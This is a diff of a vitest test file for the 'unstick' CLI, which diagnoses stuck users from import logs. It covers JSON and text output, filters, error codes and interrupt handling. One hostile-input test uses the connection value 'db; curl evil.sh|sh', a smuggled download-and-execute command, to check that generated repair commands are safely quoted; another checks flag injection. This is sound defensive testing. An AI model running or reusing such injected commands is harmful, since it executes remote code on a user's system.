@@ -1,13 +1,13 @@
 import { spawnSync } from 'node:child_process';
-import { mkdtempSync, readFileSync, writeFileSync } from 'node:fs';
+import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
 import { tmpdir } from 'node:os';
 import path from 'node:path';
 import { gzipSync } from 'node:zlib';
 import { parse } from 'csv-parse/sync';
-import { describe, expect, it } from 'vitest';
+import { describe, expect, it, onTestFinished } from 'vitest';
 import { runCli } from '../helpers/cli.js';
 
-const STUCK = ['jane.doe@acme.com', 'li.wei@acme.com', 'marco.rossi@acme.com', 'olga.ivanova@acme.com', 'raj.patel@acme.com', 'sam.okafor@acme.com', 'tom.berg@acme.com'];
+const STUCK = ['jane.doe@acme.com', 'li.wei@acme.com', 'marco.rossi@acme.com', 'olga.ivanova@acme.com', 'raj.patel@acme.com', 'sam.okafor@acme.com'];
 
 describe('unstick diagnose --json on examples/logs', () => {
   it('finds exactly the stuck users of the example story, with the documented shape', async () => {
@@ -22,7 +22,10 @@ describe('unstick diagnose --json on examples/logs', () => {
     expect(jane.lastSeen).toMatch(/^\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d\.\d{3}Z$/);
     expect(jane.evidence[0].source).toMatch(/^examples\/logs\/[\w.-]+:\d+$/);
     expect(jane.next).toBe('unstick repair jane.doe@acme.com --connection legacy-db');
-    expect(doc.findings.find((f: { email: string }) => f.email === 'tom.berg@acme.com').kinds).toEqual(['EMAIL_CHANGE_CONFLICT']);
+    // Only a supporting kind: a related conflict with a note, not a stuck user to repair.
+    expect(doc.related.map((f: { email: string; kinds: string[] }) => [f.email, f.kinds])).toEqual([['tom.berg@acme.com', ['EMAIL_CHANGE_CONFLICT']]]);
+    expect(doc.related[0].next).toBeUndefined();
+    expect(doc.jobFailures.map((e: { source: string }) => e.source)).toEqual(['examples/logs/import-job-failed.json:1']);
     expect(doc.inFileDuplicates.map((x: { email: string }) => x.email)).toEqual(['nina.kowalski@acme.com']);
     expect(doc.stats).toMatchObject({ malformed: 0, users: STUCK.length });
     expect(doc.stats.records).toBeGreaterThan(50);
@@ -31,23 +34,44 @@ describe('unstick diagnose --json on examples/logs', () => {
     );
   });
 
-  it('--since/--until keep only evidence in the window (undated evidence is kept)', async () => {
+  it('--since/--until keep only evidence in the window', async () => {
     const since = '2024-05-02T12:00:00.000Z';
     const until = '2024-05-02T12:30:00.000Z';
     const doc = JSON.parse((await runCli(['diagnose', 'examples/logs', '--json', '--since', since, '--until', until])).stdout);
     const all = JSON.parse((await runCli(['diagnose', 'examples/logs', '--json'])).stdout);
     const evidence = doc.findings.flatMap((f: { evidence: Array<{ time: string | null }> }) => f.evidence);
     expect(evidence.length).toBeGreaterThan(0);
-    for (const e of evidence) if (e.time !== null) expect(e.time >= since && e.time <= until).toBe(true);
+    for (const e of evidence) expect(e.time >= since && e.time <= until).toBe(true);
     const count = (d: { findings: Array<{ occurrences: number }> }) => d.findings.reduce((n, f) => n + f.occurrences, 0);
     expect(count(doc)).toBeLessThan(count(all));
   });
 
-  it('--connection keeps that connection and events that name none', async () => {
+  it('--connection keeps only events on that connection, and counts those naming none', async () => {
     const other = JSON.parse((await runCli(['diagnose', 'examples/logs', '--json', '--connection', 'other-db'])).stdout);
-    for (const f of other.findings) expect(f.connections).toEqual([]);
+    expect(other.findings).toEqual([]);
+    expect(other.stats.excluded.noConnection).toBeGreaterThan(0);
     const byName = JSON.parse((await runCli(['diagnose', 'examples/logs', '--json', '--connection', 'legacy-db'])).stdout);
     expect(byName.findings.map((f: { email: string }) => f.email).sort()).toEqual(STUCK);
+    for (const f of byName.findings) expect(f.connections).toEqual(['legacy-db']);
+    const human = await runCli(['diagnose', 'examples/logs', '--connection', 'legacy-db']);
+    expect(human.stdout).toMatch(/note: \d+ marker events naming no connection left out by --connection/);
+  });
+
+  it('with a time window, undated events are left out and counted; an inverted window is a usage error', async () => {
+    const doc = JSON.parse((await runCli(['diagnose', 'examples/logs', '--json', '--since', '7d'])).stdout);
+    expect(doc.findings).toEqual([]); // every dated example is from 2024
+    expect(doc.stats.excluded.undated).toBeGreaterThan(0);
+    const inverted = await runCli(['diagnose', 'examples/logs', '--since', '2024-05-03', '--until', '2024-05-01']);
+    expect(inverted.code).toBe(64);
+    expect(inverted.stderr).toBe('error: --since is after --until: the window is empty\n');
+  });
+
+  it('an import job that failed as a whole is reported as a note', async () => {
+    const { stdout } = await runCli(['diagnose', 'examples/logs/import-job-failed.json']);
+    expect(stdout).toMatch(/note: an import job failed as a whole \(examples\/logs\/import-job-failed\.json:1\): /);
+    const doc = JSON.parse((await runCli(['diagnose', 'examples/logs/import-job-failed.json', '--json'])).stdout);
+    expect(doc.jobFailures).toHaveLength(1);
+    expect(doc.jobFailures[0]).toMatchObject({ type: 'import_job_failed', source: 'examples/logs/import-job-failed.json:1' });
   });
 });
 
@@ -68,7 +92,8 @@ describe('unstick diagnose output modes', () => {
     expect(stdout).toContain('unstick repair jane.doe@acme.com --connection legacy-db');
     expect(stdout).toContain('+02:00'); // Paris summer time
     expect(stdout).toContain('nina.kowalski@acme.com appears more than once in one import file');
-    expect(stdout).toMatch(/7 stuck users; read \d+ records from 15 inputs/);
+    expect(stdout).toContain('note: tom.berg@acme.com: EMAIL_CHANGE_CONFLICT');
+    expect(stdout).toMatch(/6 stuck users; read \d+ records from 15 inputs/);
     expect(stdout).not.toContain('\u001b[');
   });
 
@@ -112,6 +137,12 @@ describe('unstick diagnose errors: one line, a documented exit code, no stack', 
       expect(stderr.split('\n')[0]).toMatch(/^error: /);
       expect(stderr).not.toMatch(/\n\s+at /);
     }
+    const bare = await runCli([]);
+    expect(bare.code).toBe(64);
+    expect(bare.stdout).toBe('');
+    expect(bare.stderr).toMatch(/^Usage: unstick \[options\] \[command\]/);
+    const unknown = await runCli(['diagnos', 'x']);
+    expect(unknown.stderr).toBe(`error: unknown command 'diagnos' (Did you mean diagnose?)\nhint: run "unstick --help" for usage\n`);
     const since = await runCli(['diagnose', 'examples/logs', '--since', 'yesterday-ish']);
     expect(since.stderr).toContain('--since: expected an ISO 8601 time');
   });
@@ -141,6 +172,50 @@ describe('hostile and awkward input', () => {
     const { stdout } = await runCli(['diagnose', '-', '--json'], { stdin: `${JSON.stringify(record)}\n` });
     expect(JSON.parse(stdout).findings[0].next).toBe(`unstick repair 'o'\\''hara@acme.com' --connection 'db; curl evil.sh|sh'`);
   });
+
+  it('a value starting with "-" never becomes a flag, and the CSV keeps emails verbatim', async () => {
+    const line = (user: string, connection: string) =>
+      JSON.stringify({ log_id: user, data: { date: '2024-05-02T10:00:00Z', type: 'fs', description: 'The user already exists.', user_name: user, connection } });
+    const input = `${line('-bob@acme.com', '--help')}\n${line('+x@acme.com', 'db')}\n`;
+    const doc = JSON.parse((await runCli(['diagnose', '-', '--json'], { stdin: input })).stdout);
+    const next = Object.fromEntries(doc.findings.map((f: { email: string; next: string }) => [f.email, f.next]));
+    expect(next['-bob@acme.com']).toBe('unstick repair --connection=--help -- -bob@acme.com');
+    expect(next['+x@acme.com']).toBe('unstick repair +x@acme.com --connection db');
+    const csv = (await runCli(['diagnose', '-', '--csv'], { stdin: input })).stdout;
+    const rows = parse(csv, { columns: true }) as Array<Record<string, string>>;
+    expect(rows.map((r) => r.email).sort()).toEqual(['+x@acme.com', '-bob@acme.com']);
+  });
+});
+
+describe('Ctrl+C', () => {
+  it('in-process: aborting the context signal stops a read that would never end, with 130', async () => {
+    const { PassThrough } = await import('node:stream');
+    const { run } = await import('../../src/cli/main.js');
+    const stdin = new PassThrough(); // never ended: only an interrupt can stop this read
+    stdin.write(`${JSON.stringify({ log_id: '1', data: { type: 'fs', description: 'The user already exists.', user_name: 'a@acme.com' } })}\n`);
+    const stdout = new PassThrough();
+    const stderr = new PassThrough();
+    let err = '';
+    stderr.on('data', (d: Buffer) => (err += d.toString()));
+    const interrupt = new AbortController();
+    const done = run(['diagnose', '-', '--json'], { stdin, stdout, stderr, env: {}, signal: interrupt.signal });
+    setTimeout(() => interrupt.abort(), 100);
+    expect(await done).toBe(130);
+    expect(err).toBe('interrupted\n');
+  });
+
+  it('the built CLI answers SIGINT with "interrupted" and exit code 130', async () => {
+    const { spawn } = await import('node:child_process');
+    const child = spawn(process.execPath, [path.resolve('bin/unstick.js'), 'diagnose', '-'], { stdio: ['pipe', 'pipe', 'pipe'] });
+    let err = '';
+    child.stderr.on('data', (d: Buffer) => (err += d.toString()));
+    child.stdin.write('2024-05-02T10:00:00Z DUPLICATED_USER a@acme.com\n');
+    await new Promise((r) => setTimeout(r, 400));
+    child.kill('SIGINT');
+    const code = await new Promise<number | null>((resolve) => child.once('exit', resolve));
+    expect(code).toBe(130);
+    expect(err).toBe('interrupted\n');
+  });
 });
 
 describe('the installed CLI (bin/unstick.js, built by pretest)', () => {
@@ -160,6 +235,7 @@ describe('the installed CLI (bin/unstick.js, built by pretest)', () => {
 
   it('stops quietly when the reader of its output goes away (| head)', () => {
     const dir = mkdtempSync(path.join(tmpdir(), 'unstick-pipe-'));
+    onTestFinished(() => rmSync(dir, { recursive: true, force: true }));
     const file = path.join(dir, 'many.jsonl');
     const lines = Array.from({ length: 20000 }, (_, i) =>
       JSON.stringify({ log_id: String(i), data: { date: '2024-05-02T10:00:00Z', type: 'fs', description: 'The user already exists.', user_name: `user${i}@acme.com` } }),
@@ -172,6 +248,7 @@ describe('the installed CLI (bin/unstick.js, built by pretest)', () => {
 
   it('diagnoses a large line-delimited file with worker threads exactly like in-process', async () => {
     const dir = mkdtempSync(path.join(tmpdir(), 'unstick-cli-'));
+    onTestFinished(() => rmSync(dir, { recursive: true, force: true }));
     const file = path.join(dir, 'big.jsonl');
     const lines: string[] = [];
     // Over the 64 MB parallel threshold, so the built CLI splits it between workers.
